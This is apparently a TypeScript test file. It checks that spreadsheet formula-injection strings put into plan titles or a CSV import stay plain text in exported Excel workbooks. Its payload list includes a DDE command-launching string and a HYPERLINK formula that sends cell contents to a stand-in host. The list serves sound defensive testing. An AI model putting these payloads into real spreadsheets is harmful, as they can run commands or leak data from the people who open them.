// Text that a spreadsheet would take for a formula: read from a CSV it is text, and in both workbooks it stays text, for another reader too.
import { writeFileSync } from 'node:fs'
import { afterAll, expect, it } from 'vitest'
import { dataWorkbookBytes } from '#host/excel/data/writeDataWorkbook.ts'
import { leadershipWorkbook } from '#host/excel/leadership/leadershipWorkbook.ts'
import { samplePlan } from '../fixtures/largePlan.ts'
import { testFolder } from '../fixtures/testHost.ts'
import { readWorkbook } from '../secondReader/readWorkbook.ts'
import { opsmap } from './runCli.ts'

const folder = testFolder('formula-injection')
afterAll(() => folder.remove())

const evil = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '=1+1";"=2',
  '＝1+1',
] as const

/** What only the planted texts hold; none of our own formulas does. */
const theirs = /HYPERLINK|cmd|calc|invalid|^=[=+\-@]?1\+1|SUM\(1\+1/i

/** The formulas of a workbook that hold any of the texts, and how many cells show them as text. */
function found(path: string) {
  const cells = readWorkbook(path).sheets.flatMap((sheet) => Object.values(sheet.cells))
  return {
    formulas: cells.filter(({ formula }) => formula !== null && theirs.test(formula)),
    texts: cells.filter(({ value, formula }) => formula === null && evil.some((text) => value === text)).length,
  }
}

const planted = () => {
  const rows = samplePlan('zh')
  const titles = [...rows.goal, ...rows.kpi, ...rows.task, ...rows.risk, ...rows.person, ...rows.improvement]
  titles.forEach((row, i) => {
    Object.assign(row, { ['name' in row ? 'name' : 'title']: evil[i % evil.length] })
  })
  return rows
}

it.each(['zh', 'en'] as const)('in the leadership workbook (%s)', async (lang) => {
  const path = folder.file(`leadership-${lang}.xlsx`)
  writeFileSync(
    path,
    await leadershipWorkbook({ rows: planted(), lang, today: '2026-11-21', picture: async () => null }),
  )
  const { formulas, texts } = found(path)
  expect(formulas).toEqual([])
  expect(texts).toBeGreaterThan(30)
})

it('in the data workbook', async () => {
  const path = folder.file('data.xlsx')
  const about = { documentId: 'doc', revision: 1, exportedAt: '2026-03-01T08:00:00.000Z' }
  writeFileSync(path, await dataWorkbookBytes({ rows: planted(), lang: 'zh', ...about }))
  const { formulas, texts } = found(path)
  expect(formulas).toEqual([])
  expect(texts).toBeGreaterThan(30)
})

it('from a CSV into a plan and out again', async () => {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const lines = ['风险,概率,影响,原因', ...evil.map((text, i) => `${quoted(`${text}${i}`)},3,4,${quoted(text)}`)]
  writeFileSync(folder.file('risks.csv'), `\ufeff${lines.join('\r\n')}\r\n`)
  await opsmap(folder.path, ['new', 'p.sqlite', '--title', 'x', '--lang', 'zh'])
  const answer = await opsmap(folder.path, ['import', 'risks.csv', '--into', 'p.sqlite', '--as', 'risk', '--json'])
  expect(answer.code, answer.err || answer.out).toBe(0)
  await opsmap(folder.path, ['export', 'p.sqlite', '--to', 'out.xlsx'])
  const { formulas, texts } = found(folder.file('out.xlsx'))
  expect(formulas).toEqual([])
  expect(texts).toBeGreaterThan(0)
})
